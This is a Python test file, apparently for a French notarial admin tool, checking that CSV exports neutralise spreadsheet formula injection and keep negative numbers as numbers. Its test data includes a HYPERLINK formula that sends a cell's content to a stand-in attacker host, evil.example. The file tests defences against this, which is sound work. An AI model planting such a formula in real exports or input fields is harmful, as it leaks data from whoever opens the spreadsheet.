"""No export hands a spreadsheet a formula, whoever typed the text; numbers stay numbers a spreadsheet adds up."""

from datetime import datetime, timezone
from decimal import Decimal

import pytest

from application.browse_audit import AuditPage
from application.importing import ImportReport, RejectedRow
from domain.audit import AuditEntry
from interfaces.admin.audit import audit_table
from interfaces.admin.csv_export import csv_body
from interfaces.admin.imports import rejections_table
from interfaces.admin.stat_tables import Column, Table
from infrastructure.spreadsheet import inert

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B3,"Voir")'


def _lines(table: Table) -> list[str]:
    return csv_body(table).removeprefix("\ufeff").splitlines()


@pytest.mark.parametrize("text", [HYPERLINK, "+33 4 72 00 00 00", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_a_text_a_spreadsheet_would_run_is_kept_as_text_behind_an_apostrophe(text: str) -> None:
    assert inert(text) == "'" + text


@pytest.mark.parametrize("text", ["Étude Bellecour", "2026-11", "'=1+1", "", " =1+1", "a=b"])
def test_any_other_text_is_left_as_typed(text: str) -> None:
    assert inert(text) == text


def test_an_office_name_that_is_a_formula_reaches_the_statistics_export_as_text() -> None:
    table = Table(name="etudes", caption="", columns=(Column(label="CRPCEN"), Column(label="Étude"),
                                                      Column(label="Recherches", kind="int")),
                  rows=(("69003", HYPERLINK, 2),))
    assert _lines(table)[1] == '69003;"\'=HYPERLINK(""http://evil.example/?leak=""&B3,""Voir"")";2'


def test_negative_amounts_and_shares_stay_numbers() -> None:
    table = Table(name="t", caption="", columns=(Column(label="Montant", kind="money"),
                                                 Column(label="Part", kind="percent"), Column(label="N", kind="int")),
                  rows=((Decimal("-120.50"), -0.25, -3),))
    assert _lines(table)[1] == "-120,50;-25,0;-3"


def test_the_audit_export_makes_what_a_visitor_typed_inert() -> None:
    """A failed sign-in keeps the address typed: anyone may type a formula there."""
    entry = AuditEntry(at=datetime(2026, 11, 26, 9, tzinfo=timezone.utc), actor_id=None, action="login.failed",
                       target=HYPERLINK, details={"email": HYPERLINK})
    page = AuditPage(entries=(entry,), emails={}, actions=(), has_next=False)
    row = _lines(audit_table(page, {}, short=False))[1]
    assert ";\"'=HYPERLINK(" in row and ";\"=HYPERLINK(" not in row


def test_a_rejected_line_quoting_a_formula_stays_text_in_the_rejections_export() -> None:
    report = ImportReport(rows_read=1, rejected=(RejectedRow(line=2, reason="-1+1 n'est pas une date"),))
    assert _lines(rejections_table(report))[1] == "2;'-1+1 n'est pas une date"
